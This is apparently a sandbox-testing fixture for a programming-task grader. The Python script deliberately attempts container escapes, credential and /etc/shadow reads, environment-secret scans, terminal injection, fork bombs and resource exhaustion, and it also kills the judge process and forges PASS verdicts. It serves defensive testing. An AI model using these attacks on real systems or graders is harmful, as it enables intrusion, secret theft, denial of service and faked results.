#!/usr/bin/env python3
"""Hostile submissions, for the grader's sandbox tests (HostileTests); never used by the product.

  attacks.py [--as-client] --attack NAME [--attack NAME …] [server.py's or client.py's options]

tries each attack, prints one line per attempt on stderr:
  "attack NAME: ESCAPED <what it got>"   the sandbox failed
  "attack NAME: contained <why>"         the sandbox held
then serves as the fixture server (../faulty/server.py, with its --fault), or with --as-client
runs as the fixture client (../faulty/client.py): the honest part the grader must still judge.
Attacks that exhaust a limit never come back.
"""
import ctypes
import os
import signal
import socket
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "faulty"))
LIBC = ctypes.CDLL(None, use_errno=True)


def report(name, escaped, detail):
    print("attack %s: %s %s" % (name, "ESCAPED" if escaped else "contained", str(detail)[:200]), file=sys.stderr, flush=True)


def attempt(name, action):
    """`action` returns a description of what it got (an escape), or raises (contained)."""
    try:
        report(name, True, action())
    except Exception as error:  # noqa: BLE001 - every failure is containment
        report(name, False, "%s: %s" % (type(error).__name__, error))


def others():
    """The processes it can see besides itself and its own sandbox's init (its parent, pid 1)."""
    own = {os.getpid(), os.getppid(), 1}
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in own]


def forge():
    """Write a PASS result on every other process's standard output, then kill them (the judge)."""
    line = '{"verdict":"pass","reason":"forged","duration":{"seconds":0,"attoseconds":0},"setup":false,"events":[],"bytes":[]}\n'
    wrote = []
    for pid in others():
        for fd in (1, 2):
            try:
                with open("/proc/%d/fd/%d" % (pid, fd), "w") as handle:
                    handle.write(line * 3)
                wrote.append("%d/%d" % (pid, fd))
            except OSError:
                pass
    killed = []
    for pid in others():
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
    # Printing result-like lines on its own output must not count either.
    print(line.strip(), flush=True)
    if killed:
        return "killed %s, wrote %s" % (killed, wrote)
    raise PermissionError("no other process to reach (wrote only to %s)" % wrote)


def stand_in():
    """Later, once the harness's clients run (`grade --stand-in`: the reference client standing in beside
    it): find the stand-in, its processes and its dialect file in /tmp, and kill it or forge a PASS on its
    output, so that the cases of its role are judged on a party it controls."""
    time.sleep(3)
    files = [name for name in os.listdir("/tmp") if name.startswith("udpchat-reference")]
    seen = others()
    if files:
        return "found the stand-in's dialect file %s" % files
    if seen:
        return forge()
    raise PermissionError("no stand-in in reach: no other process, no /tmp/udpchat-reference-* file")


def syscall(number, *args):
    result = LIBC.syscall(number, *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def run_ok(argv):
    done = subprocess.run(argv, capture_output=True, text=True, timeout=5)
    if done.returncode != 0:
        raise PermissionError(done.stderr.strip().splitlines()[-1] if done.stderr.strip() else "exit %d" % done.returncode)
    return done.stdout.strip() or "exit 0"


def scan_environ():
    """Every /proc/N/environ it can read, for a secret or the grader's own variables."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/environ" % pid, "rb") as handle:
                found += [v.decode(errors="replace") for v in handle.read().split(b"\0") if v.startswith((b"SECRET", b"UDPCHAT"))]
        except OSError:
            pass
    return found or refuse("no SECRET or UDPCHAT_ variable in any readable environ")


def refuse(text):
    raise PermissionError(text)


def read(path):
    with open(path) as handle:
        return handle.read(80)


ATTACKS = {
    "forge": forge,
    "umount-proc": lambda: (LIBC.umount2(b"/proc", 2) == 0 and "unmounted /proc") or refuse(os.strerror(ctypes.get_errno())),
    "remount-root": lambda: run_ok(["mount", "-o", "remount,rw", "/"]),
    "mount-tmpfs": lambda: run_ok(["mount", "-t", "tmpfs", "x", "/tmp"]),
    "write-host": lambda: open("/usr/udpchat-escaped", "w").write("escaped") and "wrote /usr/udpchat-escaped",
    "setns": lambda: syscall(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0) == 0 and "joined pid 1's network namespace",
    "unshare-user": lambda: syscall(272, 0x10000000) == 0 and "made a user namespace",
    "ptrace": lambda: syscall(101, 16, 1, 0, 0) == 0 and "attached to pid 1",
    "host-tcp": lambda: socket.create_connection(("127.0.0.1", int(os.environ.get("ATTACK_PORT", "22"))), timeout=1) and "connected",
    "host-processes": lambda: (others() and "sees %d other processes" % len(others())) or refuse("sees none but itself and pid 1"),
    "env-secret": lambda: os.environ.get("SECRET") or refuse("no SECRET; the environment is %s" % sorted(os.environ)),
    "proc-environ": lambda: scan_environ(),
    "shadow": lambda: read("/etc/shadow"),
    "root-home": lambda: os.listdir("/root"),
    "home": lambda: os.listdir("/home"),
    "read-path": lambda: read(os.environ["ATTACK_PATH"]),
    "tiocsti": lambda: LIBC.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, ctypes.c_char_p(b"x")) == 0 and "typed into the terminal",
}


DISK = ("fill-tmp", "memfd", "many-files")


def exhaust(name):
    """Attacks on the limits: the disk ones come back when the disk is full; the others never do."""
    if name in DISK:
        try:
            fill(name)
        except OSError as error:
            report(name, False, "stopped: %s" % error)
            return
        report(name, True, "wrote everything")
        return
    hog(name)
    report(name, True, "finished without being stopped")
    time.sleep(60)


def fill(name):
    if name == "fill-tmp":
        with open("/tmp/fill", "wb") as handle:
            for _ in range(3072):
                handle.write(b"x" * (1 << 20))
    if name == "memfd":
        fd = os.memfd_create("fill")
        for _ in range(3072):
            os.write(fd, b"x" * (1 << 20))
    if name == "many-files":
        for index in range(20000):
            with open("f%05d" % index, "w") as handle:
                handle.write("x" * 4096)
        with open("big", "wb") as handle:
            for _ in range(1024):
                handle.write(b"x" * (1 << 20))


def hog(name):
    if name == "fork-bomb":
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
            except OSError:
                time.sleep(0.01)
    if name == "threads":
        import threading
        while True:
            try:
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            except RuntimeError:
                time.sleep(0.01)
    if name == "memory":
        hoard = [bytearray(16 << 20) for _ in range(256)]
        print(len(hoard))
    if name == "cpu":
        while True:
            pass
    if name == "flood":
        text = "y" * 1000 + "\n"
        while True:
            sys.stdout.write(text)


def main():
    args = sys.argv[1:]
    rest = []
    index = 0
    as_client = False
    while index < len(args):
        if args[index] == "--as-client":
            as_client = True
            index += 1
        elif args[index] == "--attack":
            name = args[index + 1]
            index += 2
            if name == "stand-in":
                threading.Thread(target=attempt, args=(name, stand_in), daemon=True).start()
            elif name in ATTACKS:
                attempt(name, ATTACKS[name])
            else:
                exhaust(name)
        else:
            rest.append(args[index])
            index += 1
    sys.argv = [sys.argv[0]] + rest
    if as_client:
        import client
        client.main()
    else:
        import server
        server.main()


if __name__ == "__main__":
    main()
